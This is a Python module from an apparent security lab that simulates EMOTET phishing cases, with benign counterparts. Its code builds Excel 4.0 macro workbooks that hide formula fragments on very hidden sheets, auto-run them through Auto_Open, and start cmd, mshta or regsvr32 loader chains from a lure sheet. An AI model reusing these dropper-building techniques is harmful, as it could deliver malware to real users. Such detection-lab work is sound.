"""The Excel 4.0 macro cases: fragments on very hidden sheets (April 2022), and hex and octal addresses (January 2022).

Source: public notes of 2022-04-25 (Unit 42) and 2022-01-21 (executemalware/Malware-IOCs) on EMOTET's workbooks.
"""

from __future__ import annotations

from random import Random

from sekisho.app.lab import payloads
from sekisho.app.lab.biff8 import Cell, Name, Sheet, write_xls
from sekisho.app.lab.case import Scene
from sekisho.app.lab.corp import HELP_IP, MAILBOXES
from sekisho.app.lab.endpoint import POWERSHELL, SYSTEM_32
from sekisho.app.lab.letters import colleague, one_by_one, partner, stolen_thread
from sekisho.app.lab.mail import Attachment
from sekisho.app.lab.opening import call_home, office_open, remain, save, settle, start_outlook

XLS = "application/vnd.ms-excel"
LURE = {
    "B2": "THIS DOCUMENT IS PROTECTED",
    "B4": 'Previewing is not available. Press "Enable Editing" and then "Enable Content" to see it.',
    "B6": "このファイルを表示するには「コンテンツの有効化」をクリックしてください。",
}
FRAGMENT_SHEETS = ("Vv1", "Egvsb", "Lo1u")
MACRO_SHEET = "Efwfsfg"
RUN_AT, CODE_AT = 3, 20  # rows of the macro sheet: what puts the code together, and where the code appears
HELP_URL = "http://help.corp.example/expenses/guide.htm"


def fragmented(lines: tuple[str, ...], seed: str) -> tuple[list[Sheet], list[Name]]:
    """Give the sheets and names of a workbook that puts ``lines`` together and runs them.

    Each line is cut into fragments that lie scattered over the very hidden worksheets; FORMULA joins them into the
    cells of the macro sheet that execution then falls through to.
    """
    random = Random(seed)
    places = [f"{sheet}!{column}{row}" for sheet in FRAGMENT_SHEETS for column in "BDEHKPRT" for row in range(2, 60)]
    random.shuffle(places)
    cells: dict[str, dict[str, str]] = {sheet: {} for sheet in FRAGMENT_SHEETS}
    code: dict[str, str] = {}
    for number, line in enumerate(lines):
        used = ["CHAR(61)"]  # the equals sign that makes the text a formula
        line = line.removeprefix("=")
        while line:
            size = random.randrange(4, 15)
            fragment, line = line[:size], line[size:]
            place = places.pop()
            sheet, _, cell = place.partition("!")
            cells[sheet][cell] = fragment
            used.append(place)
        code[f"D{RUN_AT + number}"] = f"=FORMULA({'&'.join(used)},D{CODE_AT + number})"
    sheets = [Sheet("Sheet1", LURE)]
    sheets += [Sheet(name, fragments, state="very_hidden") for name, fragments in cells.items()]
    sheets.append(Sheet(MACRO_SHEET, code, macro=True, state="very_hidden"))
    names = [Name("Auto_Open", f"{MACRO_SHEET}!$D${RUN_AT}", hidden=True)]
    names += [Name(f"HRHRE{number}", f"{MACRO_SHEET}!$D${CODE_AT + number - 1}") for number in range(1, 7)]
    return sheets, names


def regsvr32(scene: Scene) -> None:
    """Tell emotet-xlm-regsvr32."""
    scene.verdict = "malicious"
    scene.urls = payloads.fallback_urls(2)
    workbook = write_xls(*fragmented(payloads.xlm_lines(scene.urls), scene.case))
    attachment = Attachment("INV 2022-04-25_1114, USA.xls", XLS, workbook)
    mail = stolen_thread(scene, attachment, scene.at("09:05:20"), japanese=True, charset="utf-8")
    mail = one_by_one(scene, mail)
    scene.open_from(mail, attachment)
    _run_regsvr32(scene, attachment)


def _run_regsvr32(scene: Scene, attachment: Attachment) -> None:
    at, machine = scene.at, scene.machine
    outlook = start_outlook(scene, at("09:29:30"))
    path = save(scene, outlook, attachment, at("09:31:02.300"))
    excel = office_open(scene, "EXCEL.EXE", path, at("09:31:03.050"), outlook)
    for url, clock in zip(scene.urls[:2], ("09:31:41.100", "09:31:42.900"), strict=True):
        machine.resolve(excel, payloads.shop_address(url)[0], "", at(clock))
    name, address = payloads.shop_address(scene.urls[2])
    machine.resolve(excel, name, address, at("09:31:44.020"))
    scene.reach(excel, address, 80, at("09:31:44.200"), name, scene.urls[2])
    scene.drop(excel, f"{scene.desk.home}\\{payloads.XLM_LIBRARY}", at("09:31:46.710"))
    loader = scene.start(
        f"{SYSTEM_32}regsvr32.exe",
        payloads.xlm_command(),
        at("09:31:47.150"),
        excel,
        folder=f"{scene.desk.home}\\Documents\\",
    )
    settle(scene, loader, at("09:31:50.400"), "Ptacxzqaabozoe\\nizftnxzopbdqsa.tgx")


def hexip(scene: Scene) -> None:
    """Tell emotet-xlm-hexip: one workbook with the address in hex, which is opened, and one in octal, which is not."""
    scene.verdict = "malicious"
    page, octal_page = (f"http://{payloads.HTA_HOST}/{path}" for path in ("fer/fe3.html", "c.html"))
    scene.urls = (page, octal_page, payloads.PNG_URL)
    attachment = Attachment("ACH Form.xls", XLS, _commanding(payloads.HEX_URL))
    mail = stolen_thread(scene, attachment, scene.at("09:11:33"), japanese=False, charset="us-ascii")
    scene.send(mail)
    scene.open_from(mail, attachment)
    other = Attachment("form 01.21.2022.xls", XLS, _commanding(payloads.OCTAL_URL))
    scene.send(
        stolen_thread(
            scene, other, scene.at("09:40:10"), japanese=False, charset="us-ascii", to=MAILBOXES[1:3], key="octal"
        )
    )
    _run_hexip(scene, attachment)


def _commanding(url: str) -> bytes:
    """Give a workbook whose hidden sheet starts one command, put together from characters and cells."""
    command = payloads.hta_command(url)
    middle = command.index("^", len("cmd /c m^"))
    cells = {"B7": command[1:middle], "K31": command[middle:]}
    code = {"A1": "=EXEC(CHAR(99)&Vv1!B7&Vv1!K31)", "A2": "=HALT()"}
    sheets = [Sheet("Sheet1", LURE), Sheet("Vv1", cells, state="very_hidden")]
    sheets.append(Sheet("Macro1", code, macro=True, state="very_hidden"))
    return write_xls(sheets, [Name("Auto_Open", "Macro1!$A$1")])


def _run_hexip(scene: Scene, attachment: Attachment) -> None:
    at, machine, host = scene.at, scene.machine, payloads.HTA_HOST
    path = save(scene, start_outlook(scene, at("09:29:30")), attachment, at("09:31:02.300"), "Downloads")
    excel = office_open(scene, "EXCEL.EXE", path, at("09:31:09.050"), machine.explorer)
    shell = scene.start(f"{SYSTEM_32}cmd.exe", payloads.hta_command(payloads.HEX_URL), at("09:31:47.120"), excel)
    page = scene.start(f"{SYSTEM_32}mshta.exe", f"mshta  {payloads.HEX_URL}", at("09:31:47.300"), shell)
    scene.reach(page, host, 80, at("09:31:48.010"), url=scene.urls[0])
    command = f'"{POWERSHELL}" {payloads.hta_powershell()}'
    script = scene.start(POWERSHELL, command, at("09:31:50.440"), page)
    scene.reach(script, host, 80, at("09:31:51.900"), url=payloads.PNG_URL)
    scene.drop(script, payloads.HTA_LIBRARY, at("09:31:55.310"))
    image = f"{SYSTEM_32}rundll32.exe"
    loader = scene.start(image, f'"{image}" {payloads.HTA_LIBRARY},KitKat', at("09:31:56.050"), script)
    remain(scene, loader, payloads.HTA_LIBRARY, f"{image} {payloads.HTA_LIBRARY},KitKat", at("09:31:58.500"))
    call_home(scene, loader, at("09:32:03.010"))


def regsvr32_benign(scene: Scene) -> None:
    """Tell emotet-xlm-regsvr32-benign: a very hidden macro sheet that adds up, formats, and says so."""
    data: dict[str, Cell] = {
        "A1": "品目",
        "B1": "金額",
        "A2": "用紙",
        "B2": 12800.0,
        "A3": "インク",
        "B3": 9600.0,
        "A4": "合計",
    }
    code = {
        "D3": "=FORMULA(Sheet1!B2+Sheet1!B3,Sheet1!B4)",
        "D4": "=WORKBOOK.ACTIVATE(Rates!B2&Rates!C2)",
        "D5": "=SELECT(Sheet1!B4)",
        "D6": '=FORMAT.NUMBER("#,##0")',
        "D7": '=ALERT("合計を更新しました ("&TEXT(Sheet1!B4,"#,##0")&")",2)',
        "D8": "=RETURN()",
    }
    sheets = [Sheet("Sheet1", data), Sheet("Rates", {"B2": "Sheet", "C2": "1"}, state="very_hidden")]
    sheets.append(Sheet("Totals", code, macro=True, state="very_hidden"))
    attachment = Attachment(
        "見積書 2022-04-26.xls", XLS, write_xls(sheets, [Name("Auto_Open", "Totals!$D$3", hidden=True)])
    )
    mail = one_by_one(scene, partner(scene, attachment, scene.at("09:05:20")))
    scene.open_from(mail, attachment)
    outlook = start_outlook(scene, scene.at("09:29:30"))
    path = save(scene, outlook, attachment, scene.at("09:31:02.300"))
    office_open(scene, "EXCEL.EXE", path, scene.at("09:31:03.050"), outlook)


def hexip_benign(scene: Scene) -> None:
    """Tell emotet-xlm-hexip-benign: a macro sheet that shows a page of the company's own help."""
    code = {"A1": "=OPEN(Links!B7&Links!K31)", "A2": "=HALT()"}
    sheets = [Sheet("Sheet1", {"B2": "Expenses", "B4": "The guide opens beside this sheet."})]
    sheets.append(Sheet("Links", {"B7": HELP_URL[:25], "K31": HELP_URL[25:]}, state="very_hidden"))
    sheets.append(Sheet("Macro1", code, macro=True, state="very_hidden"))
    attachment = Attachment("expenses.xls", XLS, write_xls(sheets, [Name("Auto_Open", "Macro1!$A$1")]))
    scene.urls = (HELP_URL,)
    mail = colleague(scene, attachment, scene.at("09:11:33"))
    scene.send(mail)
    scene.open_from(mail, attachment)
    at, machine = scene.at, scene.machine
    path = save(scene, start_outlook(scene, at("09:29:30")), attachment, at("09:31:02.300"), "Downloads")
    excel = office_open(scene, "EXCEL.EXE", path, at("09:31:09.050"), machine.explorer)
    machine.resolve(excel, "help.corp.example", HELP_IP, at("09:31:47.120"))
    scene.reach(excel, HELP_IP, 80, at("09:31:47.300"), "help.corp.example", HELP_URL)
